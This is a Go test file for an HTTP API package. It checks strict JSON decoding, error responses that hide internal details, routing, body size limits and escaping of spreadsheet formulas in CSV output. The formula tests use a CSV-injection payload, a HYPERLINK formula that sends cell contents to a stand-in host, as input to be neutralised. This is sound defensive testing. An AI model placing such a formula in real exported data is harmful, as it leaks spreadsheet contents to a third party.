package httpapi_test

import (
	"bytes"
	"encoding/json"
	"errors"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/hiring-pipeline/hiring-pipeline/internal/httpapi"
)

func TestDecodeJSON_Any(t *testing.T) {
	t.Parallel()
	cases := []struct {
		name, body string
		wantErr    string // a part of the error; "" for none
	}{
		{"object", `{"rows":[{"id":1,"name":"a"}]}`, ""},
		{"scalars and nesting", `{"a":[1,"x",true,null,{"b":{"c":[]}}],"d":{}}`, ""},
		{"same name in sibling objects", `{"rows":[{"id":1},{"id":2}]}`, ""},
		{"duplicate at the top", `{"rows":[],"rows":[{"id":1}]}`, `the body has the member "rows" twice`},
		{"duplicate in a row", `{"rows":[{"id":1},{"id":2,"name":"a","name":"b"}]}`, `rows[1] has the member "name" twice`},
		{"duplicate deep", `{"a":{"b":[[{"c":1,"c":2}]]}}`, `a.b[0][0] has the member "c" twice`},
		{"duplicate after escaping", `{"n":1,"\u006e":2}`, `has the member "n" twice`},
		{"trailing object", `{"rows":[]} {"rows":[]}`, "data after its JSON value"},
		{"trailing garbage", `{"rows":[]}x`, "data after its JSON value"},
		{"truncated", `{"rows":[{"id":1}`, "ends before its JSON value does"},
		{"empty", ``, "ends before its JSON value does"},
		{"not JSON", `id,name`, "not valid JSON at byte"},
		{"64 levels", strings.Repeat("[", 64) + strings.Repeat("]", 64), ""},
		{"65 levels", strings.Repeat("[", 65) + strings.Repeat("]", 65), "[0][0][0] nests deeper"},
		{"2 million levels", strings.Repeat("[", 2_000_000), "nests deeper than 64 levels"},
		{"deep in an object", `{"rows":[{"a":` + strings.Repeat("[", 70), "rows[0].a[0]"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			err := httpapi.DecodeJSON([]byte(tc.body), new(any))
			switch {
			case tc.wantErr == "" && err != nil:
				t.Fatalf("DecodeJSON(%.80s) = %v, want nil", tc.body, err)
			case tc.wantErr != "" && (err == nil || !strings.Contains(err.Error(), tc.wantErr)):
				t.Fatalf("DecodeJSON(%.80s) = %v, want an error with %q", tc.body, err, tc.wantErr)
			}
		})
	}
}

func TestDecodeJSON(t *testing.T) {
	t.Parallel()
	type body struct {
		Tables []string `json:"tables"`
		Limit  int8     `json:"limit"`
	}
	cases := []struct {
		name, body string
		want       body
		wantDetail string
	}{
		{"known member", `{"tables":["jobs"]}`, body{Tables: []string{"jobs"}}, ""},
		{"unknown member", `{"tables":[],"table":"x"}`, body{}, `unknown field "table"`},
		{"duplicate member", `{"tables":["a"],"tables":["b"]}`, body{}, `"tables" twice`},
		{"wrong type", `{"tables":"jobs"}`, body{}, "tables must be an array, not a JSON string"},
		{"trailing data", `{"tables":[]}{}`, body{}, "data after its JSON value"},
		{"number out of range", `{"limit":3000}`, body{}, "limit is a number out of range (byte 13)"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			var got body
			err := httpapi.DecodeJSON([]byte(tc.body), &got)
			if tc.wantDetail == "" {
				if err != nil {
					t.Fatalf("DecodeJSON: %v", err)
				}
				if diff := cmp.Diff(tc.want, got); diff != "" {
					t.Errorf("decoded (-want +got):\n%s", diff)
				}
				return
			}
			var p *httpapi.Problem
			if !errors.As(err, &p) || p.Status != http.StatusBadRequest || p.Code != "malformed_body" || !strings.Contains(p.Detail, tc.wantDetail) {
				t.Fatalf("DecodeJSON(%s) = %#v, want a 400 malformed_body with %q", tc.body, err, tc.wantDetail)
			}
			if strings.Contains(p.Detail, "3000") {
				t.Errorf("detail %q quotes the body", p.Detail)
			}
		})
	}
}

func TestDecodeJSONLevels(t *testing.T) {
	t.Parallel()
	var body struct {
		Rows []json.RawMessage `json:"rows"`
	}
	if err := httpapi.DecodeJSONLevels([]byte(`{"rows":[{"id":1,"id":2}]}`), &body, 1); err != nil || len(body.Rows) != 1 {
		t.Errorf("a row's duplicate member, below the first level: %v, %d rows; want it decoded for the row's parser", err, len(body.Rows))
	}
	var p *httpapi.Problem
	if err := httpapi.DecodeJSONLevels([]byte(`{"rows":[],"rows":[{"id":1}]}`), &body, 1); !errors.As(err, &p) || !strings.Contains(p.Detail, `"rows" twice`) {
		t.Errorf("rows twice: %v, want a malformed_body problem", err)
	}
}

func TestNeutralise(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		`=HYPERLINK("http://evil.example/?x="&A1,"Click")`: `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`,
		"+1":          "'+1",
		"-2+3":        "'-2+3",
		"@SUM(A1:A2)": "'@SUM(A1:A2)",
		"\tx":         "'\tx",
		"\rx":         "'\rx",
		"":            "",
		"Sales":       "Sales",
		"a=b":         "a=b",
		"12":          "12",
	} {
		if got := httpapi.Neutralise(in); got != want {
			t.Errorf("Neutralise(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestCSV_Render(t *testing.T) {
	t.Parallel()
	a := httpapi.CSV{Header: []string{"department", "hired"}, Rows: [][]string{
		{`=HYPERLINK("http://evil.example/?x="&A1,"Click")`, "3"},
		{"Sales, North", "12"},
	}}.Render()
	want := "department,hired\n\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\",3\n\"Sales, North\",12\n"
	if a.Status != http.StatusOK || a.ContentType != "text/csv; charset=utf-8" || string(a.Body) != want {
		t.Errorf("Render() = %d %s %q, want 200 text/csv %q", a.Status, a.ContentType, a.Body, want)
	}
}

// logged returns a logger into a buffer, and a function that returns the
// JSON log records written to it.
func logged(t *testing.T) (*slog.Logger, func() []map[string]any) {
	var buf bytes.Buffer
	return slog.New(slog.NewJSONHandler(&buf, nil)), func() []map[string]any {
		var out []map[string]any
		for _, line := range bytes.Split(bytes.TrimSpace(buf.Bytes()), []byte("\n")) {
			if len(line) == 0 {
				continue
			}
			var rec map[string]any
			if err := json.Unmarshal(line, &rec); err != nil {
				t.Fatalf("log line %s: %v", line, err)
			}
			out = append(out, rec)
		}
		return out
	}
}

func problemOf(t *testing.T, rec *httptest.ResponseRecorder) httpapi.Problem {
	t.Helper()
	if ct := rec.Header().Get("Content-Type"); ct != "application/problem+json" {
		t.Fatalf("Content-Type = %q, want application/problem+json; body %s", ct, rec.Body)
	}
	var p httpapi.Problem
	if err := json.Unmarshal(rec.Body.Bytes(), &p); err != nil {
		t.Fatalf("problem %s: %v", rec.Body, err)
	}
	return p
}

func TestHandle(t *testing.T) {
	t.Parallel()
	secret := errors.New("job hiring-local:US.backup_x failed: gs://hiring-local-backups/backups/x/manifest.json: invalid character")
	cases := []struct {
		name       string
		v          any
		err        error
		wantStatus int
		wantCode   string // of a problem; "" for a value
		wantLogged bool   // an ERROR line with an error_id
		wantHeader map[string]string
	}{
		{"value", map[string]int{"n": 1}, nil, http.StatusOK, "", false, map[string]string{"Content-Type": "application/json"}},
		{"answer", httpapi.Render(http.StatusCreated, "x"), nil, http.StatusCreated, "", false, nil},
		{"csv", httpapi.CSV{Header: []string{"a"}}, nil, http.StatusOK, "", false, map[string]string{"Content-Type": "text/csv; charset=utf-8"}},
		{"problem", nil, httpapi.Errorf(http.StatusBadRequest, "invalid_year", "year must be a number"), http.StatusBadRequest, "invalid_year", false, nil},
		{"problem with a header", nil, httpapi.Errorf(http.StatusConflict, "request_in_progress", "wait").WithHeader("Retry-After", "3"),
			http.StatusConflict, "request_in_progress", false, map[string]string{"Retry-After": "3"}},
		{"internal error", nil, secret, http.StatusInternalServerError, "internal", true, nil},
		{"wrapped internal error", nil, errors.Join(errors.New("backup"), secret), http.StatusInternalServerError, "internal", true, nil},
		{"unavailable", nil, httpapi.Unavailable("retry later", secret), http.StatusServiceUnavailable, "unavailable", true, map[string]string{"Retry-After": "1"}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			log, records := logged(t)
			h := httpapi.Handle(log, func(*http.Request) (any, error) { return tc.v, tc.err })
			rec := httptest.NewRecorder()
			h.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, "/x", nil))
			if rec.Code != tc.wantStatus {
				t.Fatalf("status = %d, want %d; body %s", rec.Code, tc.wantStatus, rec.Body)
			}
			if rec.Header().Get("X-Content-Type-Options") != "nosniff" {
				t.Errorf("no nosniff")
			}
			for k, v := range tc.wantHeader {
				if got := rec.Header().Get(k); got != v {
					t.Errorf("%s = %q, want %q", k, got, v)
				}
			}
			var p httpapi.Problem
			if tc.wantCode != "" {
				p = problemOf(t, rec)
				if p.Code != tc.wantCode || p.Status != tc.wantStatus {
					t.Errorf("problem = %+v, want code %s status %d", p, tc.wantCode, tc.wantStatus)
				}
			}
			if strings.Contains(rec.Body.String(), "gs://") || strings.Contains(rec.Body.String(), "job ") {
				t.Errorf("body %s carries internal text", rec.Body)
			}
			var errorLines []map[string]any
			for _, r := range records() {
				if r["level"] == "ERROR" {
					errorLines = append(errorLines, r)
				}
			}
			if !tc.wantLogged {
				if len(errorLines) != 0 || p.ErrorID != "" {
					t.Errorf("error_id %q and ERROR lines %v, want none", p.ErrorID, errorLines)
				}
				return
			}
			if p.ErrorID == "" || len(errorLines) != 1 {
				t.Fatalf("error_id %q and ERROR lines %v, want one line with the id", p.ErrorID, errorLines)
			}
			if got := errorLines[0]["error_id"]; got != p.ErrorID {
				t.Errorf("logged error_id %v, answered %s", got, p.ErrorID)
			}
			if got, _ := errorLines[0]["error"].(string); !strings.Contains(got, secret.Error()) {
				t.Errorf("logged error %q, want it to have %q", got, secret)
			}
		})
	}
}

func TestMux(t *testing.T) {
	t.Parallel()
	doc := httpapi.Object{"openapi": "3.0.3"}
	m := httpapi.NewMux(doc)
	ok := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { w.WriteHeader(http.StatusTeapot) })
	m.Handle(http.MethodPost, "/tables/{table}/rows", ok)
	m.Handle(http.MethodGet, "/report", ok)
	m.Handle(http.MethodPost, "/report", ok)
	cases := []struct {
		method, path string
		wantStatus   int
		wantCode     string
		wantAllow    string
	}{
		{http.MethodPost, "/tables/jobs/rows", http.StatusTeapot, "", ""},
		{http.MethodGet, "/tables/jobs/rows", http.StatusMethodNotAllowed, "method_not_allowed", "POST"},
		{http.MethodDelete, "/report", http.StatusMethodNotAllowed, "method_not_allowed", "GET, HEAD, POST"},
		{http.MethodGet, "/report", http.StatusTeapot, "", ""},
		{http.MethodHead, "/report", http.StatusTeapot, "", ""},
		{http.MethodGet, "/nothing", http.StatusNotFound, "not_found", ""},
		{http.MethodGet, "/tables/jobs", http.StatusNotFound, "not_found", ""},
		{http.MethodPost, "/openapi.json", http.StatusMethodNotAllowed, "method_not_allowed", "GET, HEAD"},
		{http.MethodGet, "/openapi.json", http.StatusOK, "", ""},
	}
	for _, tc := range cases {
		t.Run(tc.method+" "+tc.path, func(t *testing.T) {
			t.Parallel()
			rec := httptest.NewRecorder()
			m.ServeHTTP(rec, httptest.NewRequest(tc.method, tc.path, nil))
			if rec.Code != tc.wantStatus {
				t.Fatalf("status = %d, want %d; body %s", rec.Code, tc.wantStatus, rec.Body)
			}
			if got := rec.Header().Get("Allow"); got != tc.wantAllow {
				t.Errorf("Allow = %q, want %q", got, tc.wantAllow)
			}
			if tc.wantCode != "" {
				if p := problemOf(t, rec); p.Code != tc.wantCode {
					t.Errorf("code = %s, want %s", p.Code, tc.wantCode)
				}
			}
			if tc.path == "/openapi.json" && tc.wantStatus == http.StatusOK && strings.TrimSpace(rec.Body.String()) != `{"openapi":"3.0.3"}` {
				t.Errorf("GET /openapi.json = %s", rec.Body)
			}
		})
	}
}

func FuzzDecodeJSON(f *testing.F) {
	for _, s := range []string{`{"rows":[{"id":1}]}`, `{"a":1,"a":2}`, `[[{"x":{"y":1,"y":2}}]]`, `{"rows":[]}x`, `"\u0000"`} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		err := httpapi.DecodeJSON(data, new(any))
		if err == nil && !json.Valid(data) {
			t.Fatalf("DecodeJSON accepted invalid JSON %q", data)
		}
		// A valid JSON value is refused only for a member twice, for its
		// depth or for a number beyond float64.
		if err != nil && json.Valid(data) && !strings.Contains(err.Error(), "twice") && !strings.Contains(err.Error(), "nests deeper") && !strings.Contains(err.Error(), "out of range") {
			t.Fatalf("DecodeJSON(%q) = %v, but it is valid JSON", data, err)
		}
	})
}

// TestReadBody reads bodies of every size around the limit, with their
// declared length true, false or unknown.
func TestReadBody(t *testing.T) {
	t.Parallel()
	const limit = 300 << 10
	for _, size := range []int{0, 1, 511, 512, 513, 100 << 10, limit - 1, limit, limit + 1, 2 * limit} {
		body := bytes.Repeat([]byte{'x'}, size)
		for _, declared := range []int64{int64(size), -1, 3, int64(size) + 1000, 1 << 40} {
			r := httptest.NewRequest(http.MethodPost, "/", bytes.NewReader(body))
			r.ContentLength = declared
			got, err := httpapi.ReadBody(r, limit)
			if size > limit {
				var p *httpapi.Problem
				if !errors.As(err, &p) || p.Status != http.StatusRequestEntityTooLarge {
					t.Errorf("%d bytes declared %d: %v, want a 413", size, declared, err)
				}
				continue
			}
			if err != nil || !bytes.Equal(got, body) {
				t.Errorf("%d bytes declared %d: read %d bytes, %v", size, declared, len(got), err)
			}
		}
	}
}
